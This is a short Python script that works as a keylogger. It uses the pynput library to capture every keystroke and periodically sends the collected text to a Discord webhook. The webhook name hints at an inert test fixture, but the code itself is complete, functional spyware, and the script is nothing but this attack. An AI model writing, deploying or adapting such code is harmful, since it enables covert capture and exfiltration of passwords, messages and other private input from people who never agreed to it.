from pynput import keyboard
import requests

WEBHOOK = "https://discord.com/api/webhooks/1099887766554433221/InertKeyloggerFixture"
buffer = []


def on_press(key):
    buffer.append(str(key))
    if len(buffer) > 100:
        requests.post(WEBHOOK, json={"content": "".join(buffer)})
        buffer.clear()


with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
